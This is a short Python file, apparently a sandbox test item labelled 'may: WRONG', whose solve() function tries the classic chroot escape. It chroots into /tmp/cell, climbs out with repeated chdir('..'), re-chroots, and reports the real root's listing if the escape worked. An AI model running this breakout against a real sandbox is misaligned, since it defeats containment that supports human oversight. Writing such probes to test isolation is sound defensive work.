"""Enters a new root and climbs out of it with '..', the classic way out of a chroot for
a process with rights."""
# kind: call
# class: filesystem
# may: WRONG
import os
from contextlib import suppress
from pathlib import Path


def solve(n):
    with suppress(OSError):
        before = Path("/").stat()
        Path("/tmp/cell").mkdir(exist_ok=True)
        os.chroot("/tmp/cell")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        after = Path("/").stat()
        if (before.st_dev, before.st_ino) != (after.st_dev, after.st_ino):
            return f"SPARRING_LEAK left the root: {list(Path('/').iterdir())[:20]}"
    return 0
